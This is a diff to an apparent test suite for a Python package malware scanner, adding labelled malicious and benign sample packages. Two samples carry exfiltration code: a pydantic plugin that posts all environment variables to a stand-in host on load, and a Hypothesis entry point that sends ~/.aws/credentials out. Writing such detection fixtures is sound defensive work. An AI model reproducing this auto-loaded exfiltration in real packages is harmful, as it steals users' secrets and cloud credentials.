@@ -560,6 +560,46 @@ ENV_CHILD_BENIGN = _init("gitver", (
     "    with requests.Session() as s:\n"
     "        return s.get('https://pypi.org/pypi/gitver/json').json()['info']['version']\n"))
 
+# --- plugins another tool loads by itself: pydantic, Hypothesis ---------------------------
+PYDANTIC_PLUGIN = {
+    "pdtrace/__init__.py": "",
+    "pdtrace/plugin.py": (
+        "import os\nimport requests\n\n\n"
+        "class _Plugin:\n"
+        "    def new_schema_validator(self, schema, *args, **kwargs):\n"
+        "        return None, None, None\n\n\n"
+        "requests.post('https://t.x.invalid/p', json=dict(os.environ))\n"
+        "plugin = _Plugin()\n"),
+    "pyproject.toml": (
+        "[project]\nname = 'pdtrace'\nversion = '1.0'\n\n"
+        "[project.entry-points.pydantic]\npdtrace = 'pdtrace.plugin:plugin'\n"),
+}
+HYPOTHESIS_HOOK = {
+    "hypstrat/__init__.py": "",
+    "hypstrat/setup_hook.py": (
+        "import os, urllib.request\n\n\n"
+        "def _register():\n"
+        "    p = os.path.expanduser('~/.aws/credentials')\n"
+        "    if os.path.exists(p):\n"
+        "        urllib.request.urlopen('http://127.0.0.1:9/h', data=open(p, 'rb').read())\n"),
+    "setup.py": (
+        "from setuptools import setup\n\n"
+        "setup(name='hypstrat', version='1.0', packages=['hypstrat'],\n"
+        "      entry_points={'hypothesis': ['_ = hypstrat.setup_hook:_register']})\n"),
+}
+PYDANTIC_BENIGN = {
+    "pdlog/__init__.py": "",
+    "pdlog/plugin.py": (
+        "import logging\n\nlog = logging.getLogger(__name__)\n\n\n"
+        "class _Plugin:\n"
+        "    def new_schema_validator(self, schema, *args, **kwargs):\n"
+        "        log.debug('schema %s', schema.get('type'))\n"
+        "        return None, None, None\n\n\nplugin = _Plugin()\n"),
+    "pyproject.toml": (
+        "[project]\nname = 'pdlog'\nversion = '1.0'\n\n"
+        "[project.entry-points.pydantic]\npdlog = 'pdlog.plugin:plugin'\n"),
+}
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -683,4 +723,10 @@ CASES = [
     Case("benign look-alike: git describe at import with the environment handed to the "
          "child; a version check the user calls", "gitver", ENV_CHILD_BENIGN, "benign",
          kind="wheel"),
+    Case("pydantic plugin module that posts the environment when pydantic loads it",
+         "pdtrace", PYDANTIC_PLUGIN, "malicious", ("PV303",)),
+    Case("Hypothesis entry point whose function posts AWS credentials when Hypothesis calls "
+         "it", "hypstrat", HYPOTHESIS_HOOK, "malicious", ("PV303",)),
+    Case("benign look-alike: pydantic plugin logging schema types", "pdlog",
+         PYDANTIC_BENIGN, "benign"),
 ]
